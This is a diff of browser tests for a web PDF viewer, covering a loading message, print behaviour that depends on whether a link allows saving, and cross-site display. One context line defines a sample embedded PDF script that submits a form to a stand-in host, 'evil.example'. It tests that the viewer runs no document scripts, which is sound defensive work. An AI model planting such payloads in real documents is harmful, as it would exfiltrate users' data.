@@ -223,6 +223,49 @@ test("offers the download if the link allows it", async () => {
   await closed.context.close();
 });
 
+test("says that it is loading before the library is there", async () => {
+  const context = await browser.newContext({ ignoreHTTPSErrors: true });
+  const page = await context.newPage();
+  let proceed;
+  const blocked = new Promise((resolve) => (proceed = resolve));
+  await page.route(/pdf\.min\.mjs$/, async (route) => {
+    await blocked;
+    await route.continue();
+  });
+  await page.goto(url);
+  await page.getByText("Loading the document…").waitFor();
+  await keepScreenshot(page, "pdf-loading");
+  proceed();
+  await page.locator(".textLayer span").first().waitFor();
+  assert.equal(await page.getByText("Loading the document…").isVisible(), false);
+  await context.close();
+});
+
+test("prints all pages of the document, if the link allows to save it", async () => {
+  const { page, context } = await openViewer(url);
+  await page.evaluate(() => {
+    window.print = () => (window.printed = document.querySelectorAll("#pdf-paper canvas").length);
+  });
+  await page.keyboard.press("Control+p");
+  await page.waitForFunction(() => window.printed !== undefined);
+  const pages = Number(await page.locator("#pdf-pages").innerText());
+  assert.equal(await page.evaluate(() => window.printed), pages);
+  await page.emulateMedia({ media: "print" });
+  assert.ok(await page.locator("#pdf-paper canvas").first().isVisible());
+  assert.equal(await page.locator("#pdf").isVisible(), false);
+  await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
+  assert.equal(await page.locator("#pdf-paper canvas").count(), 0);
+  await context.close();
+
+  const closed = await openViewer(await linkTo(report));
+  await closed.page.emulateMedia({ media: "print" });
+  const told = await closed.page
+    .locator("#pdf-paper")
+    .evaluate((paper) => getComputedStyle(paper, "::after").content);
+  assert.match(told, /does not allow saving or printing/);
+  await closed.context.close();
+});
+
 test("runs no script of a document", async () => {
   const evil = "app.alert('executed'); this.submitForm('https://evil.example/'); window.executed = true;";
   const link = await linkTo(
@@ -356,7 +399,7 @@ test("shows a PDF on another site if that site allows it", async () => {
   await drawn(page, 1);
   await layer(page, 1).getByText("Harbour report, page 1").waitFor();
   await page.locator("#file-card").waitFor({ state: "hidden" });
-  assert.equal(await page.locator("#pdf-print").getAttribute("href"), `${origin}/report.pdf?v=2`);
+  assert.ok(await page.locator("#pdf-print").isVisible());
   assert.equal(site.requests.length, 1);
   const [{ headers }] = site.requests;
   assert.equal(headers.referer, undefined);
